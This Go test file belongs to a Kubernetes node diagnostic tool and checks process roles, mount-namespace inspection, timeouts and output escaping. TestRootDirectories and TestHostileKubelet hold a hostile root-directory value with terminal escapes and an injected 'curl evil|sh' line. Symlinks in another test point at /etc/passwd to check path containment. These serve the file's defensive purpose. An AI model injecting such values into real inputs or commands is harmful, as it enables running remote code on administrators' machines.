package doctor

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"

	"hotmount/internal/disk"
)

// machine is a simulated node that consists of files.
type machine struct {
	t     *testing.T
	root  string
	looks []string
	// The mutex `looking` guards the field `looks`, because several calls of Look run concurrently.
	looking sync.Mutex
	// args maps each process to its command line. If m.ended[pid] is true, the process ends before the call of Look.
	// Each call of Look hangs at the path m.hung.
	args  map[int][]string
	ended map[int]bool
	hung  string
	// The map `shown` contains the output of systemctl show for each unit.
	shown map[string]string
	// fault is the fault of the configuration that Take must report.
	fault string
	// If m.reused[pid] is true, another process gets the PID before the call of Look.
	reused map[int]bool
}

func newMachine(t *testing.T) *machine {
	m := &machine{t: t, root: t.TempDir(), args: map[int][]string{}, ended: map[int]bool{}, reused: map[int]bool{}}
	m.link("proc/self/ns/pid", initialPIDs)
	m.write("sys/dev/block/254:1", "")
	m.write("sys/dev/block/254:16", "")
	m.process(1, "systemd", "/usr/lib/systemd/systemd", "mnt:[1]", hostTable)
	return m
}

func (m *machine) write(name, text string) {
	m.t.Helper()
	name = filepath.Join(m.root, name)
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(text), 0o755); err != nil {
		m.t.Fatal(err)
	}
}

func (m *machine) link(name, target string) {
	m.t.Helper()
	name = filepath.Join(m.root, name)
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.Symlink(target, name); err != nil {
		m.t.Fatal(err)
	}
}

func (m *machine) process(pid int, name, exe, namespace, table string) {
	m.t.Helper()
	proc := fmt.Sprintf("proc/%d/", pid)
	m.write(proc+"comm", name+"\n")
	m.link(proc+"exe", exe)
	m.link(proc+"root", "/")
	m.link(proc+"ns/mnt", namespace)
	m.link(proc+"ns/user", "user:[4026531837]")
	m.write(proc+"mountinfo", table)
	m.write(proc+"status", "Name:\tx\nCapEff:\t000001ffffffffff\n")
	m.write(proc+"cgroup", "0::/system.slice/x.service\n")
}

func (m *machine) source() Source {
	return Source{Root: m.root, Look: m.look, List: func(_ context.Context, d string) ([]Answer, error) {
		return []Answer{{Entry: &Entry{Name: "x", Kind: "file"}}}, nil
	}, Show: func(_ context.Context, unit string, _ []string) (string, error) { return m.shown[unit], nil }}
}

func (m *machine) look(_ context.Context, pid int, paths []string) ([]Answer, error) {
	m.looking.Lock()
	defer m.looking.Unlock()
	m.looks = append(m.looks, fmt.Sprintf("%d: %d paths", pid, len(paths)))
	if m.ended[pid] {
		if err := os.RemoveAll(filepath.Join(m.root, fmt.Sprintf("proc/%d", pid))); err != nil {
			m.t.Fatal(err)
		}
		return nil, errors.New("exit status 1")
	}
	if len(paths) == 0 {
		return []Answer{{Args: append([]string{}, m.args[pid]...)}}, nil
	}
	namespace, err := os.Readlink(filepath.Join(m.root, fmt.Sprintf("proc/%d/ns/mnt", pid)))
	if err != nil {
		m.t.Fatal(err)
	}
	text, err := os.ReadFile(filepath.Join(m.root, fmt.Sprintf("proc/%d/mountinfo", pid)))
	if err != nil {
		m.t.Fatal(err)
	}
	if m.reused[pid] {
		namespace = "mnt:[999]"
	}
	answers := []Answer{{Namespace: namespace}}
	var failure error
	for _, p := range paths {
		if p == m.hung {
			failure = errors.New("no answer")
			continue
		}
		s := walk(tree(m.t, string(text)), p)
		answers = append(answers, Answer{At: p, Sight: &s})
	}
	return answers, failure
}

func (m *machine) take() *Snapshot {
	m.t.Helper()
	s, err := m.source().Take(m.t.Context(), &disk.Settings{Classes: []disk.Class{{Name: "default", Directory: dir, Create: "xfs"}}, Fault: m.fault}, nil)
	if err != nil {
		m.t.Fatal(err)
	}
	return s
}

// blinds returns the texts of the findings about things that the doctor could not see.
func blinds(s *Snapshot) []string {
	var all []string
	for _, f := range s.Found {
		if f.Kind == NotSeen && f.Level == Warning {
			all = append(all, f.What)
		}
	}
	return all
}

// TestRoles checks that the doctor derives the role of a process from its name or its executable. A kubelet or runtime
// without CAP_SYS_ADMIN on the host gets no role, and a runtime in a pod gets no role.
func TestRoles(t *testing.T) {
	m := newMachine(t)
	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
	m.process(11, "kubelite", "/snap/microk8s/1/kubelite", "mnt:[1]", hostTable)
	m.process(12, "k3s-server", "/var/lib/rancher/k3s/data/x/bin/k3s", "mnt:[1]", hostTable)
	m.process(13, "containerd", "/var/lib/rancher/k3s/data/x/bin/k3s", "mnt:[1]", hostTable)
	m.process(14, "main", "/opt/kubelet (deleted)", "mnt:[1]", hostTable)
	m.process(15, "hyperkube", "/hyperkube", "mnt:[1]", hostTable)
	m.args[15] = []string{"/hyperkube", "kubelet", "--v=2"}
	m.process(16, "hyperkube", "/hyperkube", "mnt:[1]", hostTable)
	m.args[16] = []string{"/hyperkube", "kube-apiserver"}
	m.process(17, "local-provision", "/local-provisioner", "mnt:[1]", hostTable)
	m.process(18, "hotmount", "/usr/bin/hotmount", "mnt:[1]", hostTable)
	m.args[18] = []string{"/usr/bin/hotmount", "run"}
	m.process(19, "hotmount", "/usr/bin/hotmount", "mnt:[1]", hostTable)
	m.args[19] = []string{"/usr/bin/hotmount", "doctor"}
	m.process(20, "kubelet", "/tmp/kubelet", "mnt:[1]", hostTable)
	m.write("proc/20/status", "CapEff:\t00000000a80425fb\n")
	m.process(21, "containerd", "/usr/bin/containerd", "mnt:[1]", hostTable)
	m.write("proc/21/cgroup", "0::/kubepods.slice/kubepods-pod6a6e9d0c_1111_4222_8333_444455556666.slice/cri-containerd-"+id+".scope\n")
	// A process of "unshare -Ur" has all capabilities, but only in its own user namespace.
	m.process(22, "kubelet", "/tmp/kubelet", "mnt:[1]", hostTable)
	m.process(23, "containerd", "/tmp/containerd", "mnt:[1]", hostTable)
	for _, pid := range []int{22, 23} {
		name := fmt.Sprintf("proc/%d/ns/user", pid)
		if err := os.Remove(filepath.Join(m.root, name)); err != nil {
			t.Fatal(err)
		}
		m.link(name, "user:[4026532999]")
	}
	got := map[int]Role{}
	s := m.take()
	for _, p := range s.Host.Processes {
		got[p.PID] = p.Role
	}
	if f := Examine(s).Findings; f[len(f)-1].Level != Note || !strings.Contains(f[len(f)-1].What, "so hotmount ignores the process (number of such processes: 2)") || len(f[len(f)-1].Processes) != 2 || f[len(f)-1].Processes[0].PID != 20 || f[len(f)-1].Processes[1].PID != 22 {
		t.Errorf("no finding names them: %+v", f[len(f)-1])
	}
	want := map[int]Role{1: "", 10: Kubelet, 11: Kubelet, 12: Kubelet, 13: Runtime, 14: Kubelet, 15: Kubelet, 16: "", 17: Provisioner, 18: Agent, 19: ""}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("roles (-want +got):\n%s", diff)
	}
}

func TestRootDirectories(t *testing.T) {
	table := tree(t, "27 1 254:1 / / rw - ext4 x rw\n28 27 254:16 / /var/lib/k0s/kubelet/pods/"+uid+"/volumes/kubernetes.io~local-volume/x rw - xfs x rw\n"+
		"29 27 254:16 /s /k/pods/"+uid+"/volume-subpaths/x/c/0 rw - xfs x rw\n")
	for _, tt := range []struct {
		args []string
		want string
	}{
		{nil, "/var/lib/kubelet"},
		{[]string{"kubelet", "--root-dir=/x/"}, "/x"},
		{[]string{"kubelet", "--root-dir", "/x"}, "/x"},
		{[]string{"k3s", "agent", "--kubelet-arg=root-dir=/x"}, "/x"},
		{[]string{"kubelet", "--root-dir=x", "--root-dir"}, "/var/lib/kubelet"},
	} {
		if got, left := rootDirectories(&Process{Role: Kubelet, Args: tt.args}, nil); !slices.Equal(got, []string{tt.want}) || len(left) > 0 {
			t.Errorf("%q: got %q, want %q, left out %q", tt.args, got, tt.want, left)
		}
	}
	if got, left := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) || len(left) > 0 {
		t.Errorf("by mounts: %q, left out %q", got, left)
	}
	// The names of root directories can contain bytes that are unsafe in a command. A kubelet may also have too many
	// root directories.
	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
	if got, left := rootDirectories(&Process{Role: Kubelet, Args: []string{"--root-dir=" + evil, "--root-dir=/a b", "--root-dir=/ok"}}, nil); !slices.Equal(got, []string{"/ok"}) || !slices.Equal(left, []string{"/a b", evil}) {
		t.Errorf("hostile: %q, left out %q", got, left)
	}
	table = nil
	for i := range 20 {
		table = append(table, tree(t, fmt.Sprintf("29 27 254:16 / /a%02d/pods/x/volumes/kubernetes.io~local-volume/y rw - xfs x rw\n", i))...)
	}
	if got, left := rootDirectories(&Process{Role: Kubelet}, table); len(got) != 8 || len(left) != 12 || got[0] != "/a00" {
		t.Errorf("many: %q, left out %q", got, left)
	}
}

// TestTake checks that the doctor calls Look no more often for 100 pods than for one pod. TestTake also checks that
// each mount table is read once, and that the doctor calls Look only for processes with a role.
func TestTake(t *testing.T) {
	for _, pods := range []int{1, 100} {
		m := newMachine(t)
		m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
		m.process(11, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
		m.process(12, "local-provision", "/local-provisioner", "mnt:[3]", "100 90 0:60 / / rw - overlay overlay rw\n101 100 254:1 /mnt/disks /disks rw master:1 - ext4 /dev/vda1 rw\n")
		for i := range pods {
			pid := 1000 + 2*i
			namespace := fmt.Sprintf("mnt:[%d]", pid)
			m.process(pid, "pause", "/pause", namespace, "200 190 0:70 / / rw - overlay overlay rw\n201 200 254:32 / /data rw - xfs /dev/vdc rw\n")
			m.write(fmt.Sprintf("proc/%d/cgroup", pid), "12:cpu:/kubepods/besteffort/pod"+uid+"/"+id+"\n0::/\n")
			m.process(pid+1, "sh", "/bin/sh", namespace, "no table is read twice")
		}
		s := m.take()
		slices.Sort(m.looks[:2])
		want := []string{"10: 0 paths", "11: 0 paths", "1: 4 paths", "11: 4 paths", "12: 4 paths"}
		if diff := cmp.Diff(want, m.looks); diff != "" {
			t.Errorf("%d pods: looks (-want +got):\n%s", pods, diff)
		}
		if len(s.Views) != 2+pods || len(blinds(s)) != 0 {
			t.Errorf("%d pods: %d views, blind %q", pods, len(s.Views), blinds(s))
		}
		if base := s.Views[1].Bases[dir]; base != "/disks" || s.Views[1].Sights["/disks"+strings.TrimPrefix(a, dir)].MountID != 101 {
			t.Errorf("class directory of the provisioner: %q", base)
		}
		v := s.Views[2]
		if p := v.Processes[0]; p.Pod != uid || p.Container != id || len(v.Processes) != 2 || len(v.Mounts) != 2 {
			t.Errorf("view of a pod: %+v", v)
		}
		if s.Gone[disk.Dev{Major: 254, Minor: 16}] || !s.Gone[disk.Dev{Major: 254, Minor: 32}] {
			t.Errorf("gone: %v", s.Gone)
		}
	}
}

// TestServices checks the finding for a service whose settings give it its own mount namespace. The finding must name
// these settings and their files, and the advice must reset the settings.
func TestServices(t *testing.T) {
	const clean = "ControlGroup=/system.slice/x.service\nFragmentPath=/etc/systemd/system/x.service\n" +
		"DropInPaths=/etc/systemd/system/x.service.d/10-a.conf /run/systemd/system/x.service.d/20-b.conf\nPrivateTmp=no\nMountFlags=\nReadOnlyPaths=\nProcSubset=all\n"
	set := func(pairs ...string) string { return strings.NewReplacer(pairs...).Replace(clean) }
	for _, tt := range []struct {
		name, cgroup, shown string
		want                []string
	}{
		{"one setting", "/system.slice/x.service", set("MountFlags=", "MountFlags=slave"), []string{
			"# x.service must use the host's mounts. These settings give x.service mounts of its own: 'MountFlags=slave in /etc/systemd/system/x.service'",
			"echo '[Service] MountFlags=' | tr ' ' '\\n' >/etc/systemd/system/x.service.d/zz-host-mounts.conf"}},
		{"several, and one that is implied", "/system.slice/x.service/init", set("PrivateTmp=no", "PrivateTmp=yes", "ReadOnlyPaths=", "ReadOnlyPaths=/opt /srv", "ProcSubset=all", "ProcSubset=pid"), []string{
			"of its own: 'PrivateTmp=yes in /etc/systemd/system/x.service.d/10-a.conf and /run/systemd/system/x.service.d/20-b.conf, ProcSubset=pid, ReadOnlyPaths=/opt /srv in /run/systemd/system/x.service.d/20-b.conf'",
			"echo '[Service] PrivateTmp=no ProcSubset=all ReadOnlyPaths=' |"}},
		{"a former name", "/system.slice/x.service", set("ReadOnlyPaths=", "InaccessiblePaths=/srv"), []string{
			"of its own: 'InaccessiblePaths=/srv in /etc/systemd/system/x.service.d/10-a.conf'", "echo '[Service] InaccessiblePaths=' |"}},
		{"none", "/system.slice/x.service", clean, []string{"systemctl restart x.service   # after the restart"}},
		{"the service of a systemd in a container", "/system.slice/docker-1.scope/system.slice/x.service", set("MountFlags=", "MountFlags=slave"), []string{"docker run"}},
		{"a container in the service's group", "/system.slice/x.service/libpod-payload-" + id, set("MountFlags=", "MountFlags=slave"), []string{"docker run"}},
		{"no service", "/kubelet.slice", "", []string{"docker run"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			m := newMachine(t)
			m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, ""))
			m.write("proc/10/cgroup", "3:cpu:/\n0::"+tt.cgroup+"\n")
			m.write("etc/systemd/system/x.service", "[Service]\n#PrivateTmp=no\nMountFlags = slave\n")
			m.write("etc/systemd/system/x.service.d/10-a.conf", "[Service]\nPrivateTmp=yes\nInaccessibleDirectories=/srv\n")
			m.write("run/systemd/system/x.service.d/20-b.conf", "[Service]\nPrivateTmp=yes\nReadOnlyPaths=/opt\nReadOnlyPaths=/srv\n")
			m.shown = map[string]string{"x.service": tt.shown}
			for _, f := range Examine(m.take()).Findings {
				if f.Kind == NotSharedBack {
					got := strings.Join(f.Do, "\n")
					for _, want := range tt.want {
						if !strings.Contains(got, want) {
							t.Errorf("want %s, got\n%s", want, got)
						}
					}
					return
				}
			}
			t.Error("the finding is missing")
		})
	}
}

// TestRuntimeService checks that the advice changes the service of the container runtime, if only the runtime lacks
// the host's mounts.
func TestRuntimeService(t *testing.T) {
	m := newMachine(t)
	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
	m.process(11, "containerd", "/usr/bin/containerd", "mnt:[2]", strings.ReplaceAll(hostTable, "shared:1 ", ""))
	m.write("proc/11/cgroup", "0::/system.slice/containerd.service\n")
	m.shown = map[string]string{"containerd.service": "ControlGroup=/system.slice/containerd.service\nMountFlags=private\n"}
	f := Examine(m.take()).Findings
	if i := slices.IndexFunc(f, func(f Finding) bool { return f.Kind == NotSharedBack }); i < 0 || !strings.Contains(strings.Join(f[i].Do, "\n"), "'[Service] MountFlags=' | tr ' ' '\\n' >/etc/systemd/system/containerd.service.d/") {
		t.Errorf("got %+v", f)
	}
}

// TestProcessesThatEnd checks that Take silently leaves out a process that ends at any moment during Take.
func TestProcessesThatEnd(t *testing.T) {
	m := newMachine(t)
	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("", both, ""))
	m.ended[10] = true
	m.process(9, "kubelet", "/usr/bin/kubelet", "mnt:[6]", container("", both, ""))
	m.reused[9] = true
	m.process(11, "a", "/a", "mnt:[3]", "")
	m.process(12, "b", "/b", "mnt:[4]", hostTable)
	if err := os.Remove(filepath.Join(m.root, "proc/12/ns/mnt")); err != nil {
		t.Fatal(err)
	}
	m.process(13, "c", "/c", "mnt:[5]", hostTable)
	if err := os.Remove(filepath.Join(m.root, "proc/13/comm")); err != nil {
		t.Fatal(err)
	}
	s := m.take()
	for _, v := range s.Views {
		if v.Namespace != "mnt:[5]" {
			t.Errorf("view of a process that has ended: %+v", v)
		}
	}
	if len(blinds(s)) > 0 {
		t.Errorf("blind: %q", blinds(s))
	}
	for _, f := range Examine(s).Findings {
		if len(f.Processes) > 0 && f.Processes[0].PID <= 10 {
			t.Errorf("%s: %s", f.Kind, f.What)
		}
	}
}

// TestHostileKubelet checks that findings escape text from a process, and that no command to paste contains text from a
// process.
func TestHostileKubelet(t *testing.T) {
	m := newMachine(t)
	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
	m.process(10, "kubelet", "/x/kubelet", "mnt:[2]", container("master:1", both, ""))
	m.args[10] = []string{"kubelet", "--root-dir=" + evil}
	m.process(12, "local-provision", "/x", "mnt:[3]", "100 90 0:60 / / rw - overlay overlay rw\n101 100 254:1 /mnt/disks /d\\012\\033[2J rw - ext4 /dev/vda1 rw\n")
	s := m.take()
	r := Examine(s)
	blind := 0
	for _, f := range r.Findings {
		if strings.ContainsFunc(f.What+strings.Join(f.Do, ""), func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("%s: %q %q", f.Kind, f.What, f.Do)
		}
		if strings.Contains(strings.Join(f.Do, "\n"), "curl") {
			t.Errorf("%s: in a line to paste: %q", f.Kind, f.Do)
		}
		if strings.Contains(f.What, `/x\x1b[2J\nnothing found`) {
			blind++
		}
	}
	if blind != 1 {
		t.Errorf("no finding says that the directory is left out: %q", blinds(s))
	}
	if len(r.Findings) < 4 {
		t.Errorf("too few findings for this to show anything: %+v", r.Findings)
	}
}

// TestHang checks that a finding names a path that hangs. While one path hangs, the doctor must look at the other
// paths.
func TestHang(t *testing.T) {
	m := newMachine(t)
	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
	m.hung = a
	s := m.take()
	for _, v := range s.allViews() {
		if v.Sights[a].Failure != "no answer" || v.Sights[b].MountID == 0 || v.Sights[dir].MountID == 0 {
			t.Errorf("%s: %+v", v.Namespace, v.Sights)
		}
	}
	for _, f := range Examine(s).Findings {
		if f.Level == Problem {
			t.Errorf("%s: %s", f.Kind, f.What)
		}
	}
}

// TestManyHang checks that many hanging provisioners delay the doctor by no more than the time limit podsTime. The
// doctor must look at the node's processes before it looks at the provisioners.
func TestManyHang(t *testing.T) {
	m := newMachine(t)
	const table = "100 90 0:60 / / rw - overlay overlay rw\n101 100 0:61 / /mnt/disks rw - fuse evil rw\n"
	for pid := 10; pid < 110; pid++ {
		m.process(pid, "local-provision", "/x", fmt.Sprintf("mnt:[%d]", pid), table)
	}
	m.process(200, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
	synctest.Test(t, func(t *testing.T) {
		src := m.source()
		var waiting atomic.Int32
		src.Look = func(ctx context.Context, pid int, paths []string) ([]Answer, error) {
			if pid == 1 || pid == 200 {
				return m.look(ctx, pid, paths)
			}
			if n := waiting.Add(1); n > 8 {
				t.Errorf("%d looks run at once", n)
			}
			defer waiting.Add(-1)
			select {
			case <-ctx.Done():
			case <-time.After(5 * time.Second):
			}
			return []Answer{{Namespace: fmt.Sprintf("mnt:[%d]", pid)}}, errors.New("no answer")
		}
		began := time.Now()
		s, err := src.Take(t.Context(), &disk.Settings{Classes: []disk.Class{{Name: "default", Directory: dir}}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if took := time.Since(began); took != 20*time.Second {
			t.Errorf("it took %s", took)
		}
		if b := blinds(s); len(b) != 1 || !strings.Contains(b[0], "because 20s was not enough time") {
			t.Errorf("blind: %q", b)
		}
		if f := Examine(s).Findings; len(f) > 50 {
			t.Errorf("%d findings", len(f))
		}
		for _, v := range s.Views {
			if v.hasRole(Kubelet) && (v.Sights[a].MountID == 0 || v.Sights[dir].MountID == 0) {
				t.Errorf("the kubelet's sights: %+v", v.Sights)
			}
			if v.hasRole(Provisioner) && v.Sights[dir].MountID != 0 {
				t.Errorf("a provisioner's sights: %+v", v.Sights)
			}
		}
	})
}

// TestSights checks that hanging paths do not delay the other paths.
func TestSights(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		hang := make(chan struct{})
		var told []string
		var paths []string
		for i := range 40 {
			paths = append(paths, fmt.Sprintf("/%02d", i))
		}
		ended := make(chan error)
		go func() {
			ended <- sights(paths, func(p string) Sight {
				if p < "/15" {
					<-hang
				}
				return Sight{Path: p}
			}, func(a Answer) error { told = append(told, a.At); return nil })
		}()
		synctest.Wait()
		if slices.Sort(told); len(told) != 25 || told[0] != "/15" {
			t.Errorf("answers %q", told)
		}
		close(hang)
		if err := <-ended; err != nil || len(told) != 40 {
			t.Errorf("answers %q, %v", told, err)
		}
	})
}

// TestForeignTables checks that the doctor examines other pods even if the mount table of one pod is broken.
func TestForeignTables(t *testing.T) {
	m := newMachine(t)
	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
	m.process(11, "a", "/a", "mnt:[3]", "nonsense\x1b\n")
	m.process(12, "b", "/b", "mnt:[4]", strings.Repeat("200 190 0:70 / /"+strings.Repeat("x", 4000)+" rw - overlay overlay rw\n", 9000))
	m.process(13, "c", "/c", "mnt:[5]", "200 190 0:70 / / rw - overlay overlay rw\n")
	s := m.take()
	if len(s.Views) != 1 || s.Views[0].Namespace != "mnt:[5]" {
		t.Errorf("%d views", len(s.Views))
	}
	if b := blinds(s); len(b) != 2 || !strings.Contains(b[0], "process 11") || !strings.Contains(b[1], "process 12") || !strings.Contains(b[1], "more than") || strings.Contains(b[0], "\x1b") {
		t.Errorf("blind: %q", b)
	}
}

func TestSystem(t *testing.T) {
	m := newMachine(t)
	m.fault = "config.yaml:1: x"
	m.write("proc/1/mountinfo", hostTable+"60 27 0:4 mnt:[99] /run/snapd/ns/x.mnt rw - nsfs nsfs rw\n"+"61 27 0:4 mnt:[1] /run/snapd/ns/y.mnt rw - nsfs nsfs rw\n")
	m.write("etc/fstab", "# nothing\n\n")
	m.link("etc/systemd/system/timers.target.wants/fstrim.timer", "/lib/systemd/system/fstrim.timer")
	m.write("etc/udev/rules.d/99-disks.rules", "# systemd-mount\nACTION==\"add\", \\\n  RUN+=\"/usr/bin/systemd-mount --no-block $devnode\"\n")
	m.write("usr/lib/udev/rules.d/99-disks.rules", "RUN+=\"systemd-mount\"\n")
	m.write("usr/lib/udev/rules.d/README", "systemd-mount\n")
	m.write("usr/lib/udev/rules.d/50-other.rules", "RUN+=\"/usr/bin/systemd-run\"\n")
	m.link("etc/udev/rules.d/60-masked.rules", "/dev/null")
	m.write("usr/lib/udev/rules.d/60-masked.rules", "RUN+=\"systemd-mount\"\n")
	m.write("var/log/pods/prod_db-0_"+uid+"/x", "")
	m.write("var/log/containers/db-0_prod_pg-main-"+id+".log", "")
	s := m.take()
	want := []string{"note fstrim", "note not-seen", "warning configuration-fault", "warning missing-helper", "warning udev-rule"}
	if got := found(&Report{Findings: s.Found}); !slices.Equal(got, want) {
		t.Errorf("found %q", got)
	}
	for _, f := range s.Found {
		if want := map[Kind]string{UdevRule: "/etc/udev/rules.d/99-disks.rules:3", NoHelper: "/sbin/mkfs.xfs", NotSeen: "/run/snapd/ns/x.mnt"}[f.Kind]; want != strings.Join(f.Paths, " ") {
			t.Errorf("%s: %q", f.Kind, f.Paths)
		}
	}
	if s.Pods[uid] != (PodName{"prod", "db-0"}) || s.Containers[id] != "pg-main" {
		t.Errorf("names %v %v", s.Pods, s.Containers)
	}
	m.write("etc/fstab", "/dev/vda1 / ext4\n")
	m.write("sbin/mkfs.xfs", "")
	want = []string{"note not-seen", "warning configuration-fault", "warning udev-rule"}
	if got := found(&Report{Findings: m.take().Found}); !slices.Equal(got, want) {
		t.Errorf("with a line in fstab, and with mkfs: %q", got)
	}
}

// TestLook checks what Look finds for the test's own process. Look must not follow a magic link out of the root
// directory.
func TestLook(t *testing.T) {
	d := t.TempDir()
	if err := os.Symlink("/proc/self/root/../../etc", filepath.Join(d, "out")); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := Look(os.Getpid(), []string{d, filepath.Join(d, "no"), filepath.Join(d, "out")}, &out); err != nil {
		t.Fatal(err)
	}
	all := decode(t, &out)
	slices.SortStableFunc(all[1:], func(a, b Answer) int { return len(a.At) - len(b.At) })
	if len(all) != 4 || all[1].Sight.MountID == 0 || all[1].Sight.Path != d || !all[2].Sight.Absent || all[3].Sight.Failure == "" || all[0].Namespace == "" {
		t.Errorf("got %+v", all)
	}
	if err := Look(os.Getpid(), nil, &out); err != nil {
		t.Fatal(err)
	}
	if all = decode(t, &out); !slices.Equal(all[len(all)-1].Args, os.Args) {
		t.Errorf("arguments %q", all[len(all)-1].Args)
	}
}

// TestSightStaysInRoot checks that links inside another process's root directory lead to no place outside this root
// directory.
func TestSightStaysInRoot(t *testing.T) {
	d := t.TempDir()
	for name, target := range map[string]string{"absolute": "/etc/passwd", "up": "../../../../../../etc/passwd", "magic": "/proc/self/root"} {
		if err := os.Symlink(target, filepath.Join(d, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(d, "dir"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/dir", filepath.Join(d, "link")); err != nil {
		t.Fatal(err)
	}
	root, err := unix.Open(d, unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(root)
	for _, name := range []string{"absolute", "up", "magic", "dir/../../../../etc"} {
		if s := sight(root, "/"+name); !s.Absent {
			t.Errorf("%s: got %+v", name, s)
		}
	}
	if s := sight(root, "/link"); s.Path != filepath.Join(d, "dir") {
		t.Errorf("a link within the root: %+v", s)
	}
}

func decode(t *testing.T, r io.Reader) []Answer {
	t.Helper()
	var all []Answer
	for d := json.NewDecoder(r); ; {
		var a Answer
		if err := d.Decode(&a); errors.Is(err, io.EOF) {
			return all
		} else if err != nil {
			t.Fatal(err)
		}
		all = append(all, a)
	}
}
